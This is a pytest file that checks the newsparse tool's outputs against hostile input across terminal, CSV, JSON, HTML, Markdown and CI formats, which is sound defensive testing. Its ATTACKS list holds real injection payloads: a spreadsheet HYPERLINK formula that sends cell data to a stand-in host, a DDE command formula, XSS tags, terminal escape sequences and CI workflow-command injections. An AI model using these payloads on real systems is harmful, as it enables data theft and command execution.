"""What newsparse writes about a hostile listing does no harm where it is read: terminal, spreadsheet, browser, CI, log.

One listing holds an attack on each; every output that exists is looked at, in the way its reader would.
"""

import csv
import io
import json
import os
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import attrs
import pytest
from hypothesis import given
from hypothesis import strategies as st

import command
import newsparse
from newsparse.interchange import to_csv, to_json, to_jsonl, unescape_formulas
from strategies import laws

ATTACKS = [
    "=HYPERLINK(\"https://e.org/?x=\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\uff1d1+1", "'=1+1",
    "\x1b]0;owned\x07\x1b[2J", "\u202egnp.exe\u2066", "a\x00b\x9bc", "a\u2028b\u2029c\x85d",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "]]><a/><![CDATA[", "--> <b>", "&#60;b&#62;",
    "[bold red]x[/] :smile:", "::error::x%0A::warning::y", "##[error]x ##vso[task.complete]", "a ::set-output name=a::b", "`|` ![x](https://e.org/x.png) <!-- @everyone -->", "{{7*7}} ${7*7} %s %(x)s",
]  # fmt: skip
TEXT = "".join(
    f"  {number}. {attack}\n\n    2 May 2023\n\n    {attack} {attack}\n\n    {attack}\n\n"
    for number, attack in enumerate(ATTACKS, 1)
)
COMMAND = re.compile(r"(?m)^\s*::(?!error |warning |notice )|##\w*\[")
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
FORMULA = re.compile("[-=+@\t\r\uff0d\uff1d\uff0b\uff20]")
ENVIRONMENT = {**os.environ, "NO_COLOR": "1", "COLUMNS": "100", "PYTHONUTF8": "1", "TERM": "dumb"}


def run(*args: str, folder: Path) -> str:
    """What a command prints, on both streams."""
    (folder / "a.txt").write_bytes(TEXT.encode())
    (folder / "b.txt").write_bytes(TEXT.replace("2 May", "31 Febuary").replace("x", "y").encode())
    (folder / "\x1b[31m.txt").write_bytes(b"\xff")
    (folder / "::warning::c.txt").write_bytes(TEXT.encode())
    (folder / "##[error]d.txt").write_bytes(b"\xff")
    result = command.newsparse(*args, cwd=folder, env=ENVIRONMENT)
    assert b"Traceback" not in result.stderr
    return (result.stdout + result.stderr).decode()


def test_the_listing_holds_the_attacks() -> None:
    assert [item.title for item in newsparse.parse(TEXT).items] == ATTACKS


@pytest.mark.parametrize(
    "args",
    [
        ("parse", "."), ("parse", "-f", "json", "."), ("parse", "-f", "jsonl", "."), ("check", "."), ("check", "--diff", "--level", "info", "."), ("check", "--statistics", "."), ("check", "--format", "json", "."),
        ("check", "--format", "github", "."), ("check", "--format", "junit", "."), ("check", "--format", "sarif", "."), ("check", "--format", "gitlab", "."),
        ("diff", "a.txt", "b.txt"), ("diff", "--format", "markdown", "a.txt", "b.txt"), ("diff", "--format", "json", "a.txt", "b.txt"),
        ("parse", "--mentions", "."), ("show", "a.txt"), ("show", "--html", "a.txt"), ("template", "a.txt"), ("parse", "-f", "roles", "a.txt"), ("format", "--diff", "a.txt"), ("parse", "\x1b[31mgone.txt"), ("check", "\u202egone.txt"),
        ("parse", "--encoding", "\x1b[31m", "a.txt"), ("\x1b[31m",), ("explain", "\x1b[31m"), ("explain", "::error::x"), ("parse", "##[x]gone.txt"), ("check", "--config", "::x", "a.txt"), ("check", "--select", "##[x]", "a.txt"),
    ],
    ids=" ".join,
)  # fmt: skip
def test_no_output_for_people_or_programs_steers_a_terminal(args: tuple[str, ...], tmp_path: Path) -> None:
    shown = run(*args, folder=tmp_path)

    assert shown
    assert CONTROL.findall(shown) == []
    assert COMMAND.findall(shown) == []


def test_no_line_of_csv_is_a_command(tmp_path: Path) -> None:
    assert COMMAND.findall(run("parse", "-f", "csv", ".", folder=tmp_path)) == []


def test_the_parquet_command_steers_no_terminal(tmp_path: Path) -> None:
    pytest.importorskip("pyarrow", reason="needs the extra arrow")

    shown = run("parse", ".", "-o", "items.parquet", folder=tmp_path)

    assert "\\x1b[31m.txt: byte 0xff" in shown
    assert CONTROL.findall(shown) == []
    assert COMMAND.findall(shown) == []


def cells(text: str, **options: Any) -> list[str]:
    written = to_csv(newsparse.parse(text), **options)
    return [cell for row in csv.reader(io.StringIO(written, newline="")) for cell in row]


def test_no_cell_is_a_formula() -> None:
    assert [cell for cell in cells(TEXT, source="=1+1") if FORMULA.match(cell)] == []


def test_every_field_that_may_hold_text_is_made_safe() -> None:
    listing = newsparse.parse(
        "=head\n\n  1. -kick\n\n    =1\n\n    2 May 2023, Suva\n\n    @1\n\n    +2\n\n    Photo: =x\n"
    )

    found = next(csv.DictReader(io.StringIO(to_csv(listing, source="+s"), newline="")))

    assert {name: cell for name, cell in found.items() if FORMULA.match(cell)} == {}
    assert [found[name] for name in ("source", "kicker", "title", "body")] == [
        "'+s",
        "'-kick",
        "'=1",
        "'@1\n\n'+2",
    ]


@laws
@given(st.text(max_size=30))
def test_no_title_is_a_formula(title: str) -> None:
    assert [cell for cell in cells(f"  1. {title}\n\n    2 May 2023\n") if FORMULA.match(cell)] == []


@laws
@given(st.text(alphabet="a;\t\"=+' ", max_size=12))
def test_no_cell_of_a_reader_with_another_separator_is_a_formula(body: str) -> None:
    written = to_csv(newsparse.parse(f"  1. A title\n\n    2 May 2023\n\n    b{body}\n"))
    for separator in ",;\t":
        found = csv.reader(io.StringIO(written, newline=""), delimiter=separator)
        assert [cell for row in found for cell in row if cell[:1] in tuple("=+")] == []


def test_what_made_cells_safe_can_be_taken_off_again() -> None:
    safe, plain = cells(TEXT), cells(TEXT, escape_formulas=False)

    assert [unescape_formulas(cell) for cell in safe] == plain
    assert safe != plain


def test_json_lines_are_lines_to_every_reader() -> None:
    lines = to_jsonl(newsparse.parse(TEXT))

    assert len(lines.splitlines()) == len(ATTACKS)
    assert [json.loads(line)["title"] for line in lines.splitlines()] == ATTACKS
    assert json.loads(to_json(newsparse.parse(TEXT)))["sections"][0]["items"][0]["title"] == ATTACKS[0]


class Tags(HTMLParser):
    """The tags, attributes and comments of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: set[str] = set()
        self.comments = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.addresses |= {value or "" for name, value in attrs if name in ("href", "src")}

    def handle_comment(self, data: str) -> None:
        self.comments += 1


def test_a_page_of_html_runs_nothing_and_asks_for_nothing() -> None:
    interchange = pytest.importorskip("newsparse.interchange")
    if not hasattr(interchange, "to_html"):
        pytest.skip("this newsparse has no to_html()")

    page = interchange.to_html(newsparse.parse(TEXT), title="</title><script>alert(1)</script>")

    harmless, found = Tags(), Tags()
    harmless.feed(interchange.to_html(newsparse.parse("  1. A\n\n    2 May 2023\n\n    B\n")))
    found.feed(page)
    assert found.tags - harmless.tags <= {
        "mark",
        "a",
        "p",
        "h2",
        "h3",
        "ul",
        "li",
        "span",
        "code",
        "abbr",
        "section",
        "nav",
    }
    assert not {name for name in found.attributes if name.startswith("on")}
    assert {address for address in found.addresses if not address.startswith("#")} == set()
    assert found.comments == harmless.comments
    assert CONTROL.findall(page.replace("\n", "")) == []


def test_junit_is_well_formed_and_github_has_no_lines_of_the_pages_own(tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    junit = run("check", "--format", "junit", "b.txt", folder=tmp_path)
    github = run("check", "--format", "github", "b.txt", folder=tmp_path)

    ElementTree.fromstring(junit)
    commands = [line for line in github.splitlines() if line.startswith("::")]
    assert all(re.match(r"::(?:error|warning|notice|debug|group|endgroup)\b", line) for line in commands)
    assert not any(line.startswith(("::error::x", "::warning::y")) for line in commands)


def test_markdown_of_a_diff_holds_no_markup_of_the_pages_own() -> None:
    changes = pytest.importorskip("newsparse.changes")
    before = newsparse.parse(TEXT)
    edited = before
    for number in (8, 10, 11, 18):
        item = edited.items[number]
        edited = edited.replace(item, attrs.evolve(item, body=("Another body.",)))

    shown = changes.to_markdown(newsparse.diff(before, edited))

    for markup in ("<script", "<img", "![x](", "<!--", "@everyone", "<svg"):
        assert not re.search(r"(?<!\\)" + re.escape(markup), shown), markup
    assert CONTROL.findall(shown) == []


def test_a_log_that_shows_a_record_or_an_error_is_not_steered() -> None:
    listing = newsparse.parse(TEXT)

    assert (
        CONTROL.findall(
            repr(listing) + "".join(map(repr, listing.items)) + "".join(map(repr, listing.sections))
        )
        == []
    )
    for attack in ATTACKS:
        with pytest.raises(ValueError, match=r".") as refused:
            newsparse.Item(1, f" {attack}\n")
        assert CONTROL.findall(str(refused.value)) == []
        with pytest.raises(newsparse.DateError) as no_date:
            newsparse.parse_date(attack)
        assert CONTROL.findall(str(no_date.value)) == []
